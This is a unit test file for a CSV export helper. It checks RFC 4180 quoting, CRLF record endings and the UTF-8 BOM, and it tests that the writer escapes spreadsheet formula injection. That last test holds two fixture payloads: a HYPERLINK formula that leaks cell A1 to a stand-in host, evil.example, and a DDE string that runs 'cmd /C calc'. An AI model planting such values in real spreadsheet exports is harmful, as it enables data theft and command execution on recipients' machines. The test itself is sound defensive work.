// The one CSV writer (src/views/csv.ts): RFC 4180 with CRLF and a UTF-8 BOM, for Excel.
import { describe, expect, it } from 'vitest';
import { csvFile, csvText } from '../../src/views/csv.ts';

describe('csvText', () => {
  it('starts with a BOM, ends every record with CRLF and quotes what RFC 4180 says to quote', () => {
    expect(
      csvText([
        ['名前', 'memo'],
        ['売掛金', 'a,b'],
        ['"x"', 'line\nbreak'],
        [1130, null],
      ]),
    ).toBe('\uFEFF名前,memo\r\n売掛金,"a,b"\r\n"""x""","line\nbreak"\r\n1130,\r\n');
  });
});

describe('csvFile', () => {
  it('is a UTF-8 text file of the header and the rows', () => {
    expect(csvFile('t.csv', 'T', ['a', 'b'], [['1', undefined]])).toEqual({
      filename: 't.csv',
      title: 'T',
      content: '\uFEFFa,b\r\n1,\r\n',
      encoding: 'utf8',
      filetype: 'csv',
    });
  });
});

describe('text a spreadsheet would run', () => {
  it('is kept as text (a leading apostrophe); numbers, negative ones too, stay numbers', () => {
    const names = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1-2',
      '-x',
    ];
    const out = csvText([names, ['-1200', -5, '+3', '1.50']]);
    expect(out).toBe(
      '\uFEFF"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'@SUM(1+1)*cmd|\' /C calc\'!A0,\'+1-2,\'-x\r\n' +
        '-1200,-5,+3,1.50\r\n',
    );
  });
});
